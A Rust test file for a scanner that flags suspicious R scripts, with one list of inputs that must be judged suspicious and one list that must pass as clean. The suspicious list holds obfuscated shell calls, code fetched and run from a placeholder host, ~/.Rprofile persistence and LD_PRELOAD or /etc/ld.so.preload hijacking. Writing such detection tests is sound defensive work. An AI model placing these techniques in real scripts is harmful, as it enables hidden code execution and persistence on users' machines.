//! Calls are found however they are written, and ordinary scripts are silent.

use std::sync::Arc;

use bytes::Bytes;

use crate::{Limits, Outcome, Report, Verdict, scan};

fn judge(text: &str) -> Report {
    match scan("train.R", Arc::new(Bytes::from(text.to_owned())), &Limits::default(), None) {
        Outcome::Judged(report) => *report,
        Outcome::Needs(_) => unreachable!("all of it is here"),
    }
}

#[test]
fn a_call_is_found_however_it_is_written() {
    for text in [
        "system('id')",
        "base::system2 ('id')",
        "`system`(\"id\")",
        "\"system\"('id')",
        "x <- '#'; system('id')",
        "system\n# why\n('id')",
        "do.call('system', list('id'))",
        "do.call(system, list('id'))",
        "match.fun(\"shell\")('id')",
        "lapply(commands, system)",
        "f <- system\nf('id')",
        "get(paste0('sys', 'tem'))('id')",
        "dyn.load('a.so')",
        "library.dynam('a', 'b', '.')",
        "pipe('id')",
        "con <- url('http://x.example/a.R')\nsource(con)",
        "model <- readRDS(url(address))",
        "x <- unserialize(gzcon(url('http://x.example/a')))",
        "download.file('http://x.example/a', 'a')",
        "source('https://x.example/a.R')",
        "source(\n  paste0('https://x.example/', name)\n)",
        "eval(parse(text = readLines('a')))",
        "eval(\n  parse(\n    text = x))",
        "writeLines('system(\"id\")', '~/.Rprofile')",
        "cat(x, file = file.path(Sys.getenv('HOME'), '.Rprofile'), append = TRUE)",
        "file.copy('a.so', r\"(/etc/ld.so.preload)\")",
        "Sys.setenv(LD_PRELOAD = 1); Sys.setenv('LD_PRELOAD', 'a.so')",
    ] {
        let report = judge(text);
        assert_eq!(report.verdict, Verdict::Suspicious, "{text}: {report:?}");
    }
}

#[test]
fn ordinary_scripts_are_silent() {
    for text in [
        "library(stats)\nfit <- lm(y ~ x, data = d) # system('id')\nsaveRDS(fit, 'fit.rds')\n",
        "x <- 'system(1)'\nprint(\"eval(parse(text = 1))\")\n",
        "url <- 'https://x.example/a.csv'\nd <- read.csv(url)\n",
        "unlink('tmp', recursive = TRUE); file.remove('a.txt'); writeLines('a', 'out.txt')\n",
        "system.time(fit(x)); system.file('a', package = 'b')\n",
        "get(paste0('model_', i)); do.call('rbind', rows); sapply(x, source_name)\n",
        "source('helpers.R'); source(file.path(dir, 'b.R'))\n",
        "d$system <- 3; list(system = 1, shell = 2)\nd$source\n",
        "d <- read.csv(url('http://x.example/a.csv'))\nsource('helpers.R')\n",
        "m <- readRDS('model.rds'); load('a.RData')\n",
    ] {
        let report = judge(text);
        assert_eq!(report.verdict, Verdict::Clean, "{text}: {report:?}");
    }
}
